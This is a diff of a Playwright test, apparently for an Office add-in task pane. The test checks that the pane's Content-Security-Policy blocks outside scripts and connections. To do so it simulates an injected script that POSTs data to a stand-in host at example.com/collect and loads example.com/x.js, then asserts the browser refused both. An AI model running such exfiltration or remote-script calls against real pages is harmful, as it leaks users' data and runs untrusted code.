@@ -162,8 +162,56 @@ describe("the task pane's register and remembered settings, in Chromium", () => 
     await page.close();
   });
 
+  it("lets no script or connection reach anywhere but the add-in and Office's script host", async () => {
+    const page = await open();
+    const blocked: string[] = [];
+    page.on("requestfailed", (request) =>
+      blocked.push(`${request.url()} ${request.failure()?.errorText}`)
+    );
+    await page.getByLabel("Danh sách cần đọc").selectOption("CLB Bản Nà");
+    await page.getByRole("button", { name: "Đọc danh sách" }).click();
+    await found(page).waitFor();
+    const policy = await page
+      .locator('meta[http-equiv="Content-Security-Policy"]')
+      .getAttribute("content");
+    expect(policy).toMatch(/script-src 'self' https:\/\/appsforoffice\.microsoft\.com;/);
+    expect(policy).toMatch(/connect-src 'self';/);
+    // What a script injected into the page would try: each is refused by the browser before any request is made.
+    const attempts = await page.evaluate(async () => {
+      const refused: string[] = [];
+      document.addEventListener("securitypolicyviolation", (e) =>
+        refused.push(e.effectiveDirective)
+      );
+      const sent = await fetch("https://example.com/collect", { method: "POST", body: "x" }).then(
+        () => "sent",
+        () => "blocked"
+      );
+      const script = document.createElement("script");
+      script.src = "https://example.com/x.js";
+      document.head.append(script);
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      return { sent, refused };
+    });
+    expect(attempts.sent).toBe("blocked");
+    expect(attempts.refused.sort()).toEqual(["connect-src", "script-src-elem"]);
+    // The script element's request was stopped by the policy in the browser, not sent: the only one attempted.
+    expect(blocked).toEqual(["https://example.com/x.js csp"]);
+    leaving.splice(
+      0,
+      leaving.length,
+      ...leaving.filter((url) => url !== "https://example.com/x.js")
+    );
+    // The browser's own report of the refusals is expected here, and only here.
+    errors.splice(0, errors.length, ...errors.filter((e) => !/Content Security Policy/.test(e)));
+    await page.close();
+  });
+
   it("keeps settings in the document: closing and reopening the pane finds them again", async () => {
     const page = await open();
+    const blocked: string[] = [];
+    page.on("requestfailed", (request) =>
+      blocked.push(`${request.url()} ${request.failure()?.errorText}`)
+    );
     await page.getByLabel("Danh sách cần đọc").selectOption("CLB Bản Nà");
     await page.getByRole("button", { name: "Đọc danh sách" }).click();
     await found(page).waitFor();
